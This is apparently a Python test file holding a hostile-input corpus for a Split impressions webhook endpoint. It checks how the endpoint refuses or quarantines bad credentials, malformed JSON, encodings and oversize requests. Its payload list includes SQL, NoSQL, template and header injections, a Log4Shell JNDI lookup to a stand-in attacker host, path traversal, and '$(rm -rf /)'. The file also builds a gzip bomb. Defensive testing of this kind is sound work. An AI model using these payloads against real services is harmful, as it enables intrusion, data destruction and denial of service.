"""Hostile corpus for ``POST /split/impressions`` (Split's impressions webhook).

Refusals (4xx, nothing stored): credentials, body framing, encodings, content types, sizes, methods and
paths. Acceptances (exactly 200, Split needs it for any well-formed array): arrays of garbage and of
hostile impressions, every item queued or quarantined with its reason.
"""

from __future__ import annotations

import gzip
import json
import zlib
from functools import cache
from typing import Any

from tests.conftest import PROFILE_TOKEN, WEBHOOK_TOKEN
from tests.hostile.support import Case, Route, check_impressions_conservation

ROUTE = Route(handler="impressions_webhook", method="POST", path="/split/impressions")

PATH = "/split/impressions"
TOKEN_QUERY = f"token={WEBHOOK_TOKEN}"
SPLIT_HEADERS = {"Content-Type": "application/json", "User-Agent": "Split-Webhook/1.0"}
MISSING = object()  # marks a field to leave out of an impression
MiB = 1024 * 1024


def impression(n: int = 0, **changes: Any) -> dict[str, Any]:
    """A valid Split impression (``changes`` override fields; ``MISSING`` removes one)."""
    item: dict[str, Any] = {
        "key": f"hostile-user-{n}",
        "split": "hostile_flag",
        "environmentId": "env-prod-0001",
        "environmentName": "Production",
        "treatment": "on",
        "time": 1767225600000 + n,
        "bucketingKey": None,
        "label": "default rule",
        "machineName": "web-1",
        "machineIp": "10.0.0.1",
        "splitVersionNumber": 1767000000000,
        "sdk": "python",
        "sdkVersion": "10.5.1",
        "properties": None,
    }
    item.update(changes)
    return {name: value for name, value in item.items() if value is not MISSING}


VALID_BODY = json.dumps([impression(0), impression(1)]).encode()


def refused(
    name: str,
    status: int,
    error: str,
    *,
    body: bytes | Any = VALID_BODY,
    query: str = TOKEN_QUERY,
    headers: dict[str, str | None] | None = None,
    method: str = "POST",
    path: str = PATH,
    **kwargs: Any,
) -> Case:
    """A request that must be refused with ``status``/``error`` (``None`` header values remove a default)."""
    merged = {**SPLIT_HEADERS, **(headers or {})}
    return Case(
        name=name,
        status=status,
        error=error,
        path=path,
        method=method,
        query=query,
        headers={key: value for key, value in merged.items() if value is not None},
        body=body,
        **kwargs,
    )


def gateway_404(name: str, method: str, path: str = PATH) -> Case:
    """No such route: API Gateway answers 404 itself; the function's own fallback must agree."""
    return refused(name, 404, "not_found", method=method, path=path, gateway_404=True)


def accepted(
    name: str,
    items: list[Any],
    *,
    accepted: int,
    reasons: dict[str, int] | None = None,
    gzipped: bool = False,
    headers: dict[str, str | None] | None = None,
    raw: bytes | None = None,
) -> Case:
    """A well-formed array: exactly 200, ``accepted`` items queued and the rest quarantined for ``reasons``."""
    body = raw if raw is not None else _json_bytes(items)
    if gzipped:
        body = gzip.compress(body, mtime=0)
    merged = {**SPLIT_HEADERS, **(headers or {})}
    return Case(
        name=name,
        status=200,
        path=PATH,
        query=TOKEN_QUERY,
        headers={key: value for key, value in merged.items() if value is not None},
        body=body,
        items=items,
        accepted=accepted,
        quarantined=len(items) - accepted,
        reasons=reasons or {},
    )


def _json_bytes(document: Any) -> bytes:
    """Raw UTF-8 where possible (hostile characters travel unescaped); escapes only for lone surrogates."""
    try:
        return json.dumps(document, ensure_ascii=False).encode("utf-8")
    except UnicodeEncodeError:
        return json.dumps(document).encode("utf-8")


@cache
def gzip_bomb() -> bytes:
    """65 MiB of JSON whitespace in ~65 KiB of gzip: over the 64 MiB decompression limit."""
    compressor = zlib.compressobj(1, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    chunk = b" " * MiB
    parts = [compressor.compress(b"[")]
    parts.extend(compressor.compress(chunk) for _ in range(65))
    parts.append(compressor.compress(b"]"))
    parts.append(compressor.flush())
    return b"".join(parts)


@cache
def oversize_body() -> bytes:
    """One byte over the 10 MiB body limit (API Gateway's own limit is 10 MB)."""
    return b"[" + b" " * (10 * MiB - 1) + b"]"


@cache
def too_many_impressions() -> bytes:
    return b"[" + b"0," * 100_000 + b"0]"


def _gzip_with_bad_crc() -> bytes:
    data = bytearray(gzip.compress(VALID_BODY, mtime=0))
    data[-8] ^= 0xFF  # CRC32 trailer
    return bytes(data)


def _nested(depth: int) -> str:
    return "[" * depth + "]" * depth


def _set_body(text: str, is_base64: bool) -> Any:
    def hook(event: dict[str, Any]) -> None:
        event["body"] = text
        event["isBase64Encoded"] = is_base64

    return hook


def _set_header(name: str, value: str) -> Any:
    def hook(event: dict[str, Any]) -> None:
        event["headers"][name] = value

    return hook


INJECTIONS = [
    "' OR '1'='1",
    "1; DROP TABLE profiles;--",
    '{"$ne": null}',
    "${jndi:ldap://attacker.example/a}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "user#FLAG#other",
    "%00%0d%0aSet-Cookie: x=1",
    "{{7*7}}",
    "$(rm -rf /)",
]
CONTROL = "\u0000\u0001\u0007\u001b[31m\u007f\u0085\u2028\u2029\u200b\u202e"

CASES: list[Case] = [
    # ---- credentials -------------------------------------------------------------------------
    refused("no_token", 401, "unauthorized", query=""),
    refused("empty_token", 401, "unauthorized", query="token="),
    refused("wrong_token_in_query", 401, "unauthorized", query="token=wrong-token"),
    refused("wrong_token_in_header", 401, "unauthorized", query="", headers={"X-Flagbridge-Token": "wrong-token"}),
    refused("empty_token_header", 401, "unauthorized", query="", headers={"X-Flagbridge-Token": ""}),
    refused("token_in_other_case", 401, "unauthorized", query=f"token={WEBHOOK_TOKEN.upper()}"),
    refused("token_prefix_only", 401, "unauthorized", query=f"token={WEBHOOK_TOKEN[:-1]}"),
    refused("token_with_suffix", 401, "unauthorized", query=f"token={WEBHOOK_TOKEN}x"),
    refused("token_padded_with_spaces", 401, "unauthorized", query=f"token=%20{WEBHOOK_TOKEN}%20"),
    refused("duplicated_query_token", 401, "unauthorized", query=f"token={WEBHOOK_TOKEN}&token={WEBHOOK_TOKEN}"),
    refused("duplicated_query_token_right_and_wrong", 401, "unauthorized", query=f"{TOKEN_QUERY}&token=wrong"),
    refused(
        "duplicated_token_header",
        401,
        "unauthorized",
        query="",
        headers={"X-Flagbridge-Token": WEBHOOK_TOKEN, "x-flagbridge-token": WEBHOOK_TOKEN},
    ),
    refused(
        "wrong_query_token_beats_right_header",
        401,
        "unauthorized",
        query="token=wrong",
        headers={"X-Flagbridge-Token": WEBHOOK_TOKEN},
    ),
    refused(
        "bearer_instead_of_token", 401, "unauthorized", query="", headers={"Authorization": f"Bearer {WEBHOOK_TOKEN}"}
    ),
    refused("profile_api_token", 401, "unauthorized", query=f"token={PROFILE_TOKEN}"),
    refused("huge_token", 401, "unauthorized", query="token=" + "A" * 65_536),
    refused("token_with_nul", 401, "unauthorized", query=f"token={WEBHOOK_TOKEN}%00"),
    refused("token_not_ascii", 401, "unauthorized", query="token=t%C3%B6k%C3%A9n-%F0%9F%94%91"),
    refused("token_invalid_percent_utf8", 401, "unauthorized", query="token=%FF%FE%C0%AF"),
    refused("token_sql_injection", 401, "unauthorized", query="token=%27%20OR%20%271%27%3D%271"),
    refused(
        "token_lone_surrogate_header",
        401,
        "unauthorized",
        query="",
        event_hook=_set_header("x-flagbridge-token", "tok\ud800en"),
    ),
    refused("no_token_and_garbage_body", 401, "unauthorized", query="", body=b"\xff\xfe garbage"),
    # ---- body framing and JSON ---------------------------------------------------------------
    refused("empty_body", 400, "empty_body", body=b""),
    refused("whitespace_body", 400, "empty_body", body=b" \n\t\r "),
    refused("truncated_array", 400, "invalid_json", body=b"["),
    refused("truncated_item", 400, "invalid_json", body=b'[{"key": "u-1",'),
    refused("truncated_mid_string", 400, "invalid_json", body=VALID_BODY[: len(VALID_BODY) // 2]),
    refused("trailing_comma", 400, "invalid_json", body=b'[{"key": "u-1"},]'),
    refused("single_quotes", 400, "invalid_json", body=b"[{'key': 'u-1'}]"),
    refused("unquoted_keys", 400, "invalid_json", body=b"[{key: 1}]"),
    refused("comments", 400, "invalid_json", body=b"[/* comment */]"),
    refused("trailing_garbage", 400, "invalid_json", body=b"[] []"),
    refused("raw_control_character_in_string", 400, "invalid_json", body=b'[{"key": "a\x01b"}]'),
    refused("nan_literal", 400, "invalid_json", body=b"[NaN]"),
    refused("infinity_literal", 400, "invalid_json", body=b'[{"time": -Infinity}]'),
    refused("number_out_of_range", 400, "invalid_json", body=b'[{"time": 1e400}]'),
    refused("integer_with_5000_digits", 400, "invalid_json", body=b"[" + b"9" * 5000 + b"]"),
    refused("nested_100k_deep", 400, "invalid_json", body=_nested(100_000).encode()),
    refused("nested_objects_50k_deep", 400, "invalid_json", body=(b'{"a":' * 50_000 + b"1" + b"}" * 50_000)),
    refused("json_object", 400, "not_an_array", body=b'{"key": "u-1"}'),
    refused("json_null", 400, "not_an_array", body=b"null"),
    refused("json_string", 400, "not_an_array", body=b'"[]"'),
    refused("json_number", 400, "not_an_array", body=b"42"),
    refused("json_true", 400, "not_an_array", body=b"true"),
    refused("invalid_utf8", 400, "invalid_utf8", body=b'[{"key": "\xff\xfe"}]'),
    refused("overlong_utf8", 400, "invalid_utf8", body=b'[{"key": "\xc0\xaf"}]'),
    refused("utf8_encoded_surrogate", 400, "invalid_utf8", body=b'[{"key": "\xed\xa0\x80"}]'),
    refused("latin1_body", 400, "invalid_utf8", body='[{"key": "müller"}]'.encode("latin-1")),
    refused("utf16_body", 400, "invalid_utf8", body="[]".encode("utf-16")),
    refused("utf8_bom", 400, "invalid_json", body=b"\xef\xbb\xbf[]"),
    refused("lone_surrogate_in_text_body", 400, "invalid_utf8", event_hook=_set_body("[\ud800]", False)),
    refused("invalid_base64", 400, "invalid_base64", event_hook=_set_body("!!not base64!!", True)),
    refused("base64_with_newlines", 400, "invalid_base64", event_hook=_set_body("W10=\nW10=", True)),
    # ---- gzip and content encodings ----------------------------------------------------------
    refused("gzip_bomb", 413, "payload_too_large", body=gzip_bomb),
    refused("gzip_bomb_with_header", 413, "payload_too_large", body=gzip_bomb, headers={"Content-Encoding": "gzip"}),
    refused("corrupt_gzip", 400, "invalid_gzip", body=b"\x1f\x8b\x08\x00garbage-not-deflate"),
    refused("truncated_gzip", 400, "invalid_gzip", body=gzip.compress(VALID_BODY, mtime=0)[:-12]),
    refused("gzip_header_only", 400, "invalid_gzip", body=gzip.compress(VALID_BODY, mtime=0)[:10]),
    refused("gzip_bad_crc", 400, "invalid_gzip", body=_gzip_with_bad_crc()),
    refused("gzip_trailing_garbage", 400, "invalid_gzip", body=gzip.compress(b"[]", mtime=0) + b"trailing"),
    refused(
        "gzip_header_on_binary_body", 400, "invalid_gzip", body=b"\x00\x01binary", headers={"Content-Encoding": "gzip"}
    ),
    refused("gzip_of_gzip", 400, "invalid_utf8", body=gzip.compress(gzip.compress(VALID_BODY, mtime=0), mtime=0)),
    refused("gzip_of_malformed_json", 400, "invalid_json", body=gzip.compress(b"[{", mtime=0)),
    refused("gzip_of_nothing", 400, "empty_body", body=gzip.compress(b"", mtime=0)),
    refused("gzip_of_object", 400, "not_an_array", body=gzip.compress(b"{}", mtime=0)),
    refused("brotli_encoding", 415, "unsupported_content_encoding", headers={"Content-Encoding": "br"}),
    refused("deflate_encoding", 415, "unsupported_content_encoding", headers={"Content-Encoding": "deflate"}),
    refused(
        "duplicated_content_encoding",
        415,
        "unsupported_content_encoding",
        headers={"Content-Encoding": "gzip", "content-encoding": "gzip"},
    ),
    # ---- content types -----------------------------------------------------------------------
    refused("text_html", 415, "unsupported_media_type", headers={"Content-Type": "text/html"}),
    refused("application_xml", 415, "unsupported_media_type", headers={"Content-Type": "application/xml"}),
    refused(
        "form_urlencoded", 415, "unsupported_media_type", headers={"Content-Type": "application/x-www-form-urlencoded"}
    ),
    refused("multipart", 415, "unsupported_media_type", headers={"Content-Type": "multipart/form-data; boundary=x"}),
    refused("image_png", 415, "unsupported_media_type", headers={"Content-Type": "image/png"}),
    refused("garbage_content_type", 415, "unsupported_media_type", headers={"Content-Type": ";;;"}),
    refused(
        "duplicated_content_type",
        415,
        "unsupported_media_type",
        headers={"Content-Type": "application/json", "content-type": "text/html"},
    ),
    refused(
        "content_type_injection",
        415,
        "unsupported_media_type",
        headers={"Content-Type": "<script>alert(1)</script>" + "x" * 10_000},
    ),
    # ---- sizes -------------------------------------------------------------------------------
    refused("oversize_body", 413, "payload_too_large", body=oversize_body),
    refused("too_many_impressions", 413, "too_many_impressions", body=too_many_impressions),
    # ---- methods and paths: API Gateway has no route for these ------------------------------
    gateway_404("get", "GET"),
    gateway_404("put", "PUT"),
    gateway_404("patch", "PATCH"),
    gateway_404("delete", "DELETE"),
    gateway_404("head", "HEAD"),
    gateway_404("options", "OPTIONS"),
    gateway_404("trailing_slash", "POST", PATH + "/"),
    gateway_404("path_typo", "POST", "/split/impression"),
    gateway_404("path_upper_case", "POST", "/SPLIT/IMPRESSIONS"),
    gateway_404("extra_segment", "POST", PATH + "/extra"),
    gateway_404("dot_segments", "POST", "/split/../split/impressions"),
    gateway_404("profile_path", "POST", "/profiles/user/u-1001"),
    # ---- well-formed arrays: exactly 200, items queued or quarantined ------------------------
    accepted("empty_array", [], accepted=0),
    accepted("valid_without_content_type", [impression(0)], accepted=1, headers={"Content-Type": None}),
    accepted(
        "json_with_charset_and_gzip_header",
        [impression(0)],
        accepted=1,
        gzipped=True,
        headers={"Content-Type": "application/json; charset=utf-8", "Content-Encoding": "gzip"},
    ),
    accepted("mislabelled_gzip_header_plain_json", [impression(0)], accepted=1, headers={"Content-Encoding": "gzip"}),
    accepted(
        "multi_member_gzip",
        [impression(0)],
        accepted=1,
        raw=gzip.compress(b"[", mtime=0) + gzip.compress(json.dumps(impression(0)).encode() + b"]", mtime=0),
    ),
    accepted("garbage_items", [1, "a", None, True, 2.5, [], [1, 2], ""], accepted=0, reasons={"not_an_object": 8}),
    accepted("empty_objects", [{}, {}, {}], accepted=0, reasons={"invalid_impression": 3}),
    accepted(
        "wrong_types",
        [
            impression(0, key=12345),
            impression(1, split=["a"]),
            impression(2, time="1767225600000"),
            impression(3, time=1767225600000.5),
            impression(4, time=True),
            impression(5, treatment=None),
            impression(6, environmentName={"name": "Production"}),
            impression(7, splitVersionNumber="v1"),
            impression(8, label=7),
            impression(9, bucketingKey=False),
            impression(10, properties={"page": "/cart"}),
        ],
        accepted=0,
        reasons={"invalid_impression": 11},
        gzipped=True,
    ),
    accepted(
        "missing_fields",
        [
            impression(i, **{name: MISSING})
            for i, name in enumerate(["key", "split", "environmentName", "treatment", "time"])
        ],
        accepted=0,
        reasons={"invalid_impression": 5},
    ),
    accepted(
        "empty_strings",
        [
            impression(0, key=""),
            impression(1, split=""),
            impression(2, treatment=""),
            impression(3, environmentName=""),
        ],
        accepted=0,
        reasons={"invalid_impression": 4},
    ),
    accepted(
        "times_out_of_range",
        [impression(0, time=1767225600), impression(1, time=-1), impression(2, time=10**15), impression(3, time=0)],
        accepted=0,
        reasons={"invalid_impression": 4},
    ),
    accepted(
        "unmapped_environments",
        [
            impression(0, environmentName="Dev", environmentId="env-dev"),
            impression(1, environmentName="production"),
            impression(2),
        ],
        accepted=1,
        reasons={"unmapped_environment": 2},
    ),
    accepted(
        "huge_strings",
        [
            impression(0, key="k" * 1025),
            impression(1, split="s" * 513),
            impression(2, treatment="t" * 100_000),
            impression(3, properties=json.dumps({"a": "p" * 40_000})),
            impression(4, label="l" * 1025),
            impression(5, key="k" * 1024),
        ],
        accepted=1,
        reasons={"invalid_impression": 5},
    ),
    accepted(
        "keys_over_dynamodb_key_size",
        [
            impression(0, key="\U0001f600" * 1024),
            impression(1, split="\u00e9" * 512),
            impression(2, key="\u00e9" * 512),
        ],
        accepted=1,
        reasons={"invalid_impression": 2},
    ),
    accepted(
        "bad_properties",
        [
            impression(0, properties="not json"),
            impression(1, properties="[1, 2]"),
            impression(2, properties="42"),
            impression(3, properties="{" * 10_000),
            impression(4, properties=_nested(16_000)),
            impression(5, properties='{"ok": true}'),
            impression(6, properties=""),
        ],
        accepted=2,
        reasons={"invalid_impression": 5},
    ),
    accepted(
        "lone_surrogates_in_fields",
        [impression(0, key="a\ud800b"), impression(1, split="\udfff"), impression(2, label="\ud83d")],
        accepted=0,
        reasons={"invalid_impression": 3},
    ),
    accepted(
        "injection_strings_as_values",
        [
            impression(i, key=text, split=f"flag {text}", treatment=text, label=text)
            for i, text in enumerate(INJECTIONS)
        ],
        accepted=len(INJECTIONS),
    ),
    accepted(
        "control_and_invisible_characters",
        [
            impression(0, key=CONTROL),
            impression(1, split=CONTROL),
            impression(2, treatment="on" + CONTROL),
            impression(3, key="\ufffe\uffff-noncharacters", label="\uffff"),
        ],
        accepted=4,
        gzipped=True,
    ),
    accepted(
        "injection_strings_as_object_keys",
        [
            impression(i, **{text: text, "__proto__": {"admin": True}, "constructor": "x"})
            for i, text in enumerate(INJECTIONS)
        ]
        + [dict.fromkeys(INJECTIONS, 1)],
        accepted=len(INJECTIONS),
        reasons={"invalid_impression": 1},
    ),
    accepted(
        "duplicate_json_keys_last_wins",
        [impression(0)],
        accepted=1,
        raw=json.dumps([impression(0, key="first-value-is-overridden")])[:-2].encode() + b', "key": "hostile-user-0"}]',
    ),
    accepted(
        "duplicate_items",
        [impression(0), impression(0), impression(0), impression(1, key=12), impression(1, key=12)],
        accepted=3,
        reasons={"invalid_impression": 2},
    ),
    accepted(
        "deeply_nested_items_kept_in_quarantine",
        [
            json.loads(_nested(400)),
            {"key": 1, "nested": json.loads(_nested(400))},
            impression(0, extra=json.loads(_nested(400))),
        ],
        accepted=1,
        reasons={"not_an_object": 1, "invalid_impression": 1},
    ),
    accepted(
        "huge_array_of_garbage",
        [0] * 20_000,
        accepted=0,
        reasons={"not_an_object": 20_000},
        gzipped=True,
    ),
    accepted(
        "mixed_valid_and_invalid",
        [
            impression(0),
            7,
            impression(1, time="x"),
            impression(2, environmentName="Nowhere"),
            impression(3),
            None,
            impression(4, key="anon-77"),
        ],
        accepted=3,
        reasons={"not_an_object": 2, "invalid_impression": 1, "unmapped_environment": 1},
        gzipped=True,
    ),
]


def verify_accepted(case: Case, body: dict[str, Any], aws: dict[str, Any]) -> None:
    """Conservation: received = queued + quarantined, with the quarantine keeping the originals and reasons."""
    assert case.items is not None
    assert body["accepted"] == case.accepted, body
    assert body["quarantined"] == case.quarantined, body
    check_impressions_conservation(case.items, body, aws)
    assert body.get("quarantineReasons", {}) == dict(case.reasons or {})
